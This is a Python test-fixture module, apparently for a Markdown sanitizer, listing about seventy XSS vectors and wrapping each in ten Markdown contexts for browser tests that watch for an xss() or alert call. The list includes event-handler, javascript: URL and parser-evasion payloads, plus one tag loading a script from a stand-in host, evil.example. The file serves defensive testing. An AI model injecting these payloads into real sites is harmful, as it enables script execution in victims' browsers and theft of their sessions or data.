"""A corpus of XSS payloads: classic vectors, each also wrapped in the Markdown contexts users write.

Every payload that runs calls ``xss()`` (or ``alert``), which the browser tests watch for.
"""

BASE_VECTORS = [
    "<script>xss()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(1)</script>",
    "<img src=x onerror=xss()>",
    "<img src=x onerror=\"alert(1)\">",
    "<IMG SRC=\"javascript:xss();\">",
    "<IMG SRC=javascript:xss()>",
    "<IMG SRC=JaVaScRiPt:xss()>",
    "<img src=`javascript:xss()`>",
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg/onload=xss()>",
    "<body onload=xss()>",
    "<iframe src=\"javascript:xss()\"></iframe>",
    "<iframe srcdoc=\"<script>parent.xss()</script>\"></iframe>",
    "<object data=\"javascript:xss()\"></object>",
    "<embed src=\"javascript:xss()\">",
    "<a href=\"javascript:xss()\">clic</a>",
    "<a href=\"jav&#x09;ascript:xss()\">clic</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;xss()\">clic</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKCk8L3NjcmlwdD4=\">clic</a>",
    "<a href=\"vbscript:xss()\">clic</a>",
    "<div style=\"background:url(javascript:xss())\">x</div>",
    "<div onmouseover=\"xss()\">survol</div>",
    "<input autofocus onfocus=xss()>",
    "<select autofocus onfocus=xss()></select>",
    "<textarea autofocus onfocus=xss()></textarea>",
    "<details open ontoggle=xss()>",
    "<video><source onerror=\"xss()\"></video>",
    "<audio src=x onerror=xss()>",
    "<marquee onstart=xss()>x</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
    "<form action=\"javascript:xss()\"><button>ok</button></form>",
    "<button formaction=\"javascript:xss()\">ok</button>",
    "<isindex action=javascript:xss() type=image>",
    "<base href=\"javascript:xss()//\">",
    "<link rel=stylesheet href=\"javascript:xss()\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:xss()\">",
    "<style>@import 'javascript:xss()';</style>",
    "<table background=\"javascript:xss()\">",
    "\"><script>xss()</script>",
    "'><script>xss()</script>",
    "</textarea><script>xss()</script>",
    "</title><script>xss()</script>",
    "</script><script>xss()</script>",
    "<!--<img src=\"--><img src=x onerror=xss()//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=xss()>\">",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "<<script>xss();//<</script>",
    "<img \"\"\"><script>xss()</script>\">",
    "<img src=\"x\" onerror=\"&#120;&#115;&#115;()\">",
    "<svg><a xlink:href=\"javascript:xss()\"><text x=\"20\" y=\"20\">clic</text></a></svg>",
    "<x onclick=xss()>clic</x>",
    "{{constructor.constructor('xss()')()}}",
    "${xss()}",
    "javascript:xss()",
    "JaVaScRiPt:xss()",
    "data:text/html,<script>xss()</script>",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "%3Cscript%3Exss()%3C/script%3E",
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "<img src=x:x onerror=xss()>",
    "<image src=x onerror=xss()>",
    "<keygen autofocus onfocus=xss()>",
    "<frameset onload=xss()>",
    "<style onload=xss()></style>",
    "<template><img src=x onerror=xss()></template>",
    "<a href=\" javascript:xss()\">espace</a>",
    "<a href=\"javascript&colon;xss()\">colon</a>",
    "<img src=1 onerror=\"window['xss']()\">",
]

MARKDOWN_WRAPPERS = [
    "{}",
    "Bonjour {} fin",
    "[lien]({})",
    "![image]({})",
    "**{}**",
    "`{}`",
    "> {}",
    "- {}\n- deuxième",
    "[lien](javascript:xss() \"{}\")",
    "<{}>",
]


def payloads():
    seen = []
    for vector in BASE_VECTORS:
        for wrapper in MARKDOWN_WRAPPERS:
            payload = wrapper.format(vector)
            if payload not in seen:
                seen.append(payload)
    return seen


PAYLOADS = payloads()
